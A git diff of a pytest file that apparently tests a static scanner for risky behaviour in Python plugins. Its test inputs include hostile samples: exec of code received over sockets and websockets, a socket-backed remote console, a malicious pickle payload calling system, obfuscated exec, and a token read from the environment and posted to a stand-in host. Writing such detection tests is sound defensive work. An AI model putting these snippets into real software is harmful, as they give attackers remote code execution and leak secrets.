@@ -4,7 +4,7 @@ import pickle
 
 import pytest
 
-from scanners.facts import Act, Label, Trick
+from scanners.facts import Act, Context, Label, Trick
 from tests.scanners.python.conftest import Read
 
 PAYLOAD = "exec(x)"
@@ -31,10 +31,12 @@ FROM_OUTSIDE = {
     "receive": "import zmq\ns = zmq.Context().socket(1)\nexec(s.recv_string())",
     "websocket lines": "import websockets\nasync def f():\n    async with websockets.connect('wss://a') as w:\n"
     "        async for x in w:\n            exec(x)",
-    "websocket application": "import websocket\ndef f(w, x):\n    exec(x)\nwebsocket.WebSocketApp('wss://a', on_message=f)",
+    "websocket application": "import websocket\n"
+    "def f(w, x):\n    exec(x)\nwebsocket.WebSocketApp('wss://a', on_message=f)",
     "client session": "import aiohttp\nasync def f():\n    async with aiohttp.ClientSession() as s:\n"
     "        async with s.ws_connect('wss://a') as w:\n            async for m in w:\n                exec(m.data)",
-    "console": "import socket, sys, code\ns = socket.create_connection(('a', 1))\nsys.stdin = s.makefile('r')\ncode.interact()",
+    "console": "import socket, sys, code\n"
+    "s = socket.create_connection(('a', 1))\nsys.stdin = s.makefile('r')\ncode.interact()",
 }
 PICKLED = "import pickle\npickle.loads(" + repr(b"cos\nsystem\n(Vid\ntR.") + ")"
 REACHED = {
@@ -227,3 +229,59 @@ def test_list_read_from_its_end_is_no_trick(read_python: Read, source: str) -> N
 def test_text_written_backwards_is_a_trick(read_python: Read) -> None:
     facts = [fact for fact in read_python("exec(')1(tnirp'[::-1])").facts if fact.act is Act.CODE_EVAL]
     assert any(Trick.DECODED in fact.tricks for fact in facts)
+
+
+PLACES = {
+    "beside": ("open(Path(__file__).parent / 'a.json')", "{own}/a.json"),
+    "beside by name": ("open(Path(__file__).with_name('a.json'))", "{own}/a.json"),
+    "beside by function": ("open(os.path.join(os.path.dirname(__file__), 'a.json'))", "{own}/a.json"),
+    "a neighbour": ("open(Path(__file__).parent.parent / 'b' / 'a.json')", "{own}/../b/a.json"),
+    "above": ("open(Path(__file__).resolve().parents[1] / 'a.json')", "{own}/../a.json"),
+    "data": ("open(Path(context.data_dir) / 'a.json')", "{data}/a.json"),
+    "data of others": ("open(Path(context.data_dir).parent / 'b' / 'a.json')", "{data}/../b/a.json"),
+}
+
+
+@pytest.mark.parametrize(("use", "path"), PLACES.values(), ids=PLACES)
+def test_path_says_whether_it_leaves_the_plugin(read_python: Read, use: str, path: str) -> None:
+    facts = read_python(f"import os\nfrom pathlib import Path\ndef run(context):\n    {use}").facts
+    assert path in [fact.detail for fact in facts if fact.act is Act.FILE_READ]
+
+
+def test_function_that_an_example_calls_too_is_not_dead(read_python: Read) -> None:
+    files = {
+        "a/__init__.py": "",
+        "a/b.py": "import os\ndef f():\n    os.system('id')",
+        "examples/c.py": "from a.b import f\nf()",
+    }
+    contexts = [fact.context for fact in read_python(files).facts if fact.act is Act.PROCESS_START]
+    assert contexts == [Context.RUNTIME]
+
+
+@pytest.mark.parametrize(
+    "keep",
+    ["import queue\nkept = queue.Queue()\nput = kept.put_nowait", "kept = []\nput = kept.append", "kept = {}"],
+    ids=["queue", "list", "dictionary"],
+)
+def test_what_one_function_keeps_another_sends(read_python: Read, keep: str) -> None:
+    use = (
+        "kept['a'] = secret"
+        if keep == "kept = {}"
+        else "kept.put(secret)"
+        if "queue" in keep
+        else "kept.append(secret)"
+    )
+    source = (
+        f"import os, requests\n{keep}\ndef send():\n    requests.post('https://x', data=str(kept))\nsend()\n"
+        f"def note():\n    secret = os.environ['A_TOKEN']\n    {use}\n"
+    )
+    facts = [fact for fact in read_python(source).facts if fact.act is Act.NETWORK_SEND]
+    assert any(Label.SECRET in fact.labels for fact in facts)
+
+
+def test_own_mapping_makes_up_what_is_missing(read_python: Read) -> None:
+    source = (
+        "import os\nclass A:\n    def f(self, x):\n        os.system(x)\nclass R(dict):\n    def __missing__(self, k):\n"
+        "        self[k] = A()\n        return self[k]\nr = R()\nr['a'].f('id')"
+    )
+    assert "id" in [fact.detail for fact in read_python(source).facts if fact.act is Act.PROCESS_START]
